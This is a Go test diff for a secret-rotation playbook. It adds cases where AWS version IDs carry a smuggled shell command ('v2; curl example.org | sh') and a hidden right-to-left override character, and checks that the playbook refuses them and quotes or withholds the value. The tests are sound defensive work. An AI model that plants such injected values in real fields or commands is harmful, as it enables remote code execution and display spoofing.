@@ -203,6 +203,9 @@ func TestLineOfRotation(t *testing.T) {
 	const cron = "cron(0 4 1 * ? *)"
 	begun := rotated(false, 30, "")
 	begun.VersionIdsToStages = map[string][]string{"v2": {"AWSPENDING"}, "v1": {"AWSCURRENT"}}
+	named, hidden := rotated(false, 30, ""), rotated(false, 30, "") // by whoever may put a value: AWS takes any text
+	named.VersionIdsToStages = map[string][]string{"v2; curl example.org | sh # 32 letters": {"AWSPENDING"}}
+	hidden.VersionIdsToStages = map[string][]string{"v2\u202e of 32 letters, some do not show": {"AWSPENDING"}}
 	ended := rotated(false, 30, "")
 	ended.VersionIdsToStages = map[string][]string{"v2": {"AWSPENDING", "AWSCURRENT"}, "v1": {"AWSPREVIOUS"}}
 	playbooktest.Judged(t, playbook.Rotation()[0], prefix+"app-a1B2c3", map[string]playbooktest.Shape{
@@ -228,6 +231,13 @@ func TestLineOfRotation(t *testing.T) {
 		"on, by nobody knows what": {Answers: marked(rotated(true, 0, "")), Params: at(30), Class: fault.Invalid},
 		"a rotation under way": {
 			Answers: marked(begun), Class: fault.Refused, Words: []string{"--remove-from-version-id v2"},
+		},
+		"one that means something to a shell": {
+			Answers: marked(named), Class: fault.Refused,
+			Words: []string{"--remove-from-version-id 'v2; curl example.org | sh # 32 letters'"},
+		},
+		"one that does not show": {
+			Answers: marked(hidden), Class: fault.Refused, Words: []string{"away from its version, whose name cannot be shown"},
 		},
 	})
 }
